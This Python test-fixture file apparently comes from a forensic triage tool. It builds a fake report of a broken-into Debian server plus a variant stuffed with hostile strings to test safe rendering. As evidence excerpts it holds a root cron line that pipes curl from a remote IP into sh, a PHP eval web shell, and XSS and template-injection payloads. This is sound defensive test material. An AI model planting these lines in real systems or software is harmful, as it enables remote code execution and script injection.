# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Data of reports for tests: a server that was broken into, and evidence that attacks who reads the report."""

from __future__ import annotations

import hashlib
import random
from datetime import datetime, timezone
from typing import Any

SECOND = 1_000_000_000
FOLDERS = (
    "/usr/lib/python3/dist-packages",
    "/usr/share/doc",
    "/usr/lib/x86_64-linux-gnu",
    "/usr/share/locale/de/LC_MESSAGES",
    "/var/lib/dpkg/info",
    "/usr/share/man/man1",
    "/etc/ssl/certs",
    "/usr/lib/modules/6.1.0-25-amd64/kernel/drivers",
    "/usr/share/perl5",
    "/var/www/html/wp-content/plugins",
    "/usr/share/zoneinfo",
    "/home/deploy/app/node_modules",
)
WORDS = (
    "core",
    "util",
    "net",
    "parser",
    "index",
    "client",
    "handler",
    "image",
    "base",
    "config",
    "test",
    "lib",
    "form",
    "session",
    "queue",
    "theme",
    "cache",
    "auth",
)
ENDINGS = (".py", ".so.6.1", ".list", ".gz", ".ko", ".pm", ".php", ".js", ".conf", ".mo", ".pem", "")

EVIL = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>'
NAMES = (
    EVIL,
    "</script><script>window.__pwned=1</script>",
    "<!--<script>",
    "{{ 7*7 }}{% raw %}",
    "' onmouseover='window.__pwned=1",
    '"><svg/onload=window.__pwned=1>',
    "javascript:window.__pwned=1",
    "]]>&lt;&#60;",
    "\u202egnp.exe",
    "\u05e9\u05dc\u05d5\u05dd/\u0645\u0631\u062d\u0628\u0627",
    "a" * 3000,
    "\u2028line\u2029",
    "__proto__",
    "constructor",
    "\x00\x1b[31m",
    "\U0001f4a3\u0130",
    "\ud800",
)


def nanoseconds(text: str, nanos: int = 0) -> int:
    """A time as the timeline counts it."""
    when = datetime.fromisoformat(text).replace(tzinfo=timezone.utc)
    return int(when.timestamp()) * SECOND + nanos


def digest(text: str) -> str:
    """Some SHA-256."""
    return hashlib.sha256(text.encode()).hexdigest()


def finding(severity: str, kind: str, path: str, reason: str, when: str, **more: Any) -> dict[str, Any]:
    """A finding as a triage writes it."""
    times = {"m": when, "a": when.replace("T03", "T04"), "c": when, "b": when}
    return {
        "id": digest(path + kind)[:16],
        "rule": kind,
        "kind": kind,
        "severity": severity,
        "path": path,
        "inode": int(digest(path)[:5], 16),
        "times": times,
        "sha256": None,
        "reason": reason,
        "excerpt": "",
        "partition": "p1",
        **more,
    }


# Severity, kind, path, reason, time, excerpt.
BREAK_IN = (
    ("critical", "setuid", "/var/tmp/.x/sh", "A copy of a shell with the setuid bit, owned by root, in a folder that "
     "everybody may write to", "2026-09-12T03:44:52Z", ""),
    ("critical", "preload", "/etc/ld.so.preload", "Every program loads this library first; no package brought it",
     "2026-09-12T03:46:10Z", "/usr/lib/x86_64-linux-gnu/libselinux.so.3.1"),
    ("high", "authorized_key", "/root/.ssh/authorized_keys", "A key that was added after the system was installed",
     "2026-09-12T03:47:33Z", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7b... build@runner"),
    ("high", "cron", "/etc/cron.d/.sysupd", "A job as root that fetches and runs what a server sends",
     "2026-09-12T03:48:01Z", "*/5 * * * * root curl -fsS http://198.51.100.23/u | sh"),
    ("high", "web_shell", "/var/www/html/wp-content/uploads/2026/09/img_0412.php", "PHP that runs what a request "
     "brings, in a folder for uploads", "2026-09-12T03:41:17Z", "<?php @eval(base64_decode($_POST['k'])); ?>"),
    ("medium", "password_guessing", "/var/log/auth.log", "4,318 failed logins as root from 203.0.113.77 within "
     "an hour, then one that succeeded", "2026-09-12T03:39:58Z", ""),
    ("medium", "altered_file", "/usr/sbin/sshd", "Its content is not what its package (openssh-server "
     "1:9.2p1-2+deb12u3) brought", "2026-09-12T03:46:55Z", ""),
    ("medium", "history_cleared", "/root/.bash_history", "Empty, though the account was used",
     "2026-09-12T04:02:11Z", ""),
)
FINDINGS = (
    *(finding(*each[:5], excerpt=each[5], sha256=None if "log" in each[2] else digest(each[2])) for each in BREAK_IN),
    *(finding("low", "world_writable", f"/srv/share/{name}", "Everybody may write to it",
              f"2026-0{month}-1{month}T11:0{month}:00Z") for month, name in enumerate(("in", "out", "tmp", "work"), 3)),
    *(finding("info", "login", "/var/log/wtmp", f"deploy from 192.0.2.{host} on pts/{host % 3}",
              f"2026-09-{host % 11 + 1:02d}T08:15:00Z", inode=402) for host in range(10, 34)),
)


def rows(number: int, seed: int = 7) -> list[list[Any]]:
    """A timeline such as a Debian server has: an installation, upgrades, work by day, and one bad night."""
    dice = random.Random(seed)
    install, night = nanoseconds("2025-11-03T09:12:00"), nanoseconds("2026-09-12T03:38:00")
    upgrades = [install + month * 28 * 86400 * SECOND + dice.randrange(4 * 3600 * SECOND) for month in range(1, 11)]
    made: list[list[Any]] = []
    for count in range(number):
        path = (
            f"{dice.choice(FOLDERS)}/{dice.choice(WORDS)}{dice.choice(('-', '_', '/'))}{dice.choice(WORDS)}{count // 3}"
            f"{dice.choice(ENDINGS)}"
        )
        kind = dice.random()
        if kind < 0.5:
            time = install + dice.randrange(40 * 60 * SECOND)
        elif kind < 0.8:
            time = dice.choice(upgrades) + dice.randrange(600 * SECOND)
        elif kind < 0.98:
            time = (
                install
                + dice.randrange(313) * 86400 * SECOND
                + int(dice.gauss(14, 3) * 3600) * SECOND
                + dice.randrange(SECOND)
            )
        else:
            time = night + int(abs(dice.gauss(0, 900)) * SECOND)
        made.append(
            [
                time,
                dice.choice(("macb", "m.c.", "mac", "a", "c", "b", "ma")),
                path,
                int(dice.paretovariate(0.6) * 900) % 9**9,
                dice.choice(("p1", "p1", "p1", "p15")),
                dice.choice((0, 0, 0, 33, 1000)),
                dice.choice(("r/rrw-r--r--", "r/rrwxr-xr-x", "d/drwxr-xr-x", "l/lrwxrwxrwx")),
            ]
        )
    return made


def sample(number: int = 17_000) -> dict[str, Any]:
    """The report of a server that was broken into at night."""
    entries = rows(number)
    for each in FINDINGS:
        when = nanoseconds(each["times"]["m"].rstrip("Z"), 123_456_789)
        entries.append([when, "m.cb", each["path"], 4096, "p1", 0, "r/rrw-r--r--"])
        entries.append([when + 1, ".a..", each["path"], 4096, "p1", 0, "r/rrw-r--r--"])
    entries += [
        [0, "a", "/boot/grub/unicode.pf2", 2405231, "p1", 0, "r/rrw-r--r--"],
        [nanoseconds("2040-01-19T03:14:08", 7), "m", "/home/deploy/future.txt", 12, "p1", 1000, "r/rrw-r--r--"],
        [
            nanoseconds("1961-04-12T06:07:00", 999_999_999),
            "m",
            "/home/deploy/vostok.txt",
            12,
            "p1",
            1000,
            "r/rrw-r--r--",
        ],
        [None, "b", "/EFI/debian/grubx64.efi", 151552, "p15", 0, "r/rrwxrwxrwx"],
    ]
    entries.sort(key=lambda row: (row[0] is not None, row[0] or 0))
    accounts = [
        ("root", 0, "/bin/bash", "2026-09-12T03:41:17Z", "password set"),
        ("daemon", 1, "/usr/sbin/nologin", "", ""),
        ("www-data", 33, "/usr/sbin/nologin", "", ""),
        ("sshd", 101, "/usr/sbin/nologin", "", ""),
        ("deploy", 1000, "/bin/bash", "2026-09-11T08:15:00Z", "password set, sudo"),
        ("sysupd", 0, "/bin/bash", "2026-09-12T03:59:40Z", "a second account with UID 0"),
    ]
    packages = [
        (
            f"{word}-{number}",
            f"1.{number}.2-{number % 4}+deb12u{number % 3}",
            120 * number % 977,
            f"2026-0{number % 9 + 1}-14T06:2{number % 10}:00Z",
        )
        for number, word in enumerate(WORDS * 3)
    ]
    return {
        "schema": 1,
        "kind": "triage",
        "title": "snap-0123456789abcdef0",
        "incident": "INC-2026-0042",
        "made": "2026-11-28T17:00:00Z",
        "tool": {
            "name": "dfir.aws",
            "version": "0.1.0",
            "parts": {"dissect.extfs": "3.15", "dissect.target": "3.25.1"},
        },
        "source": {
            "kind": "snapshot",
            "name": "snap-0123456789abcdef0",
            "region": "eu-central-1",
            "size_bytes": 64 << 30,
            "blocks_read": 312,
            "bytes_read": 163577856,
            "written_blocks": 20480,
            "seconds": 9.3,
            "limit_blocks": 4000,
            "started": "2026-11-28T16:59:48Z",
        },
        "facts": [
            {"label": label, "value": value, "partition": "p1"}
            for label, value in (
                ("System", "Debian GNU/Linux 12 (bookworm)"),
                ("Host name", "web-03.shop.example"),
                ("Kernel", "6.1.0-25-amd64"),
                ("Installed", "2025-11-03 09:12 UTC"),
                ("Last boot", "2026-09-10 22:00 UTC"),
                ("Last write", "2026-09-12 04:02 UTC"),
                ("Time zone", "Europe/Berlin"),
                ("Machine ID", "6f1c2d0f3b7a4f61a2f0a1c9f35d8e77"),
            )
        ],
        "warnings": [
            "p1: the journal holds changes that are not applied: what happened last may be missing here",
            "p15: FAT keeps local times, and reads only as days",
        ],
        "not_read": ["/var/log/syslog.7.gz: the budget for logs was spent", "/var/lib/docker/overlay2: 3 of 5 layers"],
        "partitions": [
            {
                "name": "p1",
                "type": "ext4",
                "kind": "filesystem",
                "size_bytes": 68_000_000_000,
                "journal_dirty": True,
                "reason": "",
                "entries": number,
            },
            {
                "name": "p14",
                "type": "",
                "kind": "unknown",
                "size_bytes": 3 << 20,
                "journal_dirty": None,
                "reason": "BIOS boot",
                "entries": 0,
            },
            {
                "name": "p15",
                "type": "vfat",
                "kind": "filesystem",
                "size_bytes": 124 << 20,
                "journal_dirty": None,
                "reason": "",
                "entries": 14,
            },
        ],
        "findings": [dict(each) for each in reversed(FINDINGS)],
        "tables": [
            {
                "id": "accounts",
                "title": "Accounts",
                "note": "From /etc/passwd, /etc/shadow and /var/log/lastlog.",
                "columns": [
                    {"key": "name", "title": "Name"},
                    {"key": "uid", "title": "UID", "type": "number"},
                    {"key": "shell", "title": "Shell"},
                    {"key": "last", "title": "Last login (UTC)", "type": "time"},
                    {"key": "note", "title": "Note"},
                ],
                "rows": [dict(zip(("name", "uid", "shell", "last", "note"), row, strict=True)) for row in accounts],
            },
            {
                "id": "packages",
                "title": "Packages",
                "note": "",
                "columns": [
                    {"key": "name", "title": "Package"},
                    {"key": "version", "title": "Version"},
                    {"key": "kib", "title": "KiB", "type": "number"},
                    {"key": "at", "title": "Installed (UTC)", "type": "time"},
                ],
                "rows": [dict(zip(("name", "version", "kib", "at"), row, strict=True)) for row in packages],
            },
            {"id": "timers", "title": "Timers", "columns": [{"key": "name", "title": "Name"}], "rows": [], "note": ""},
        ],
        "timeline": {
            "entries": len(entries) + 2_312,
            "file": "timeline.csv.gz",
            "sha256": digest("timeline"),
            "zone_note": "",
            "rows": entries,
        },
        "hashes": [
            {"name": "timeline.csv.gz", "sha256": digest("timeline"), "bytes": 812_345},
            {"name": "triage.json", "sha256": digest("json"), "bytes": 1_512_345},
        ],
        "versions": {},
    }


def hostile() -> dict[str, Any]:
    """The same, with names everywhere that attack whoever reads the report."""
    data = sample(400)
    data |= {"title": EVIL, "incident": EVIL, "warnings": list(NAMES), "not_read": list(NAMES)}
    data["tool"] = {"name": EVIL, "version": EVIL, "parts": {EVIL: EVIL}}
    data["source"] |= {"name": EVIL, "region": EVIL, "kind": EVIL}
    data["facts"] = [{"label": name, "value": name, "partition": name} for name in NAMES]
    data["partitions"] = [{"name": name, "type": name, "kind": name, "reason": name, "size_bytes": 1} for name in NAMES]
    data["findings"] += [
        {
            "id": name,
            "rule": name,
            "kind": name,
            "severity": severity,
            "path": f"/tmp/{name}",
            "inode": 1,
            "times": {"m": name},
            "sha256": name,
            "reason": name,
            "excerpt": name,
            "partition": name,
        }
        for name in NAMES
        for severity in ("critical", name)
    ]
    data["tables"].append(
        {
            "id": EVIL,
            "title": EVIL,
            "note": EVIL,
            "columns": [
                {"key": "a", "title": EVIL, "type": EVIL},
                {"key": "__proto__", "title": "b", "type": "number"},
            ],
            "rows": [{"a": name, "__proto__": name} for name in NAMES],
        }
    )
    data["timeline"]["rows"] += [
        [nanoseconds("2026-09-13T00:00:00", count), "macb", f"/tmp/{name}", 1, name, 0, name]
        for count, name in enumerate(NAMES)
    ]
    data["timeline"] |= {"file": EVIL, "zone_note": EVIL, "sha256": EVIL}
    data["hashes"] = [{"name": name, "sha256": name, "bytes": 1} for name in NAMES]
    data["versions"] = {EVIL: EVIL}
    return data
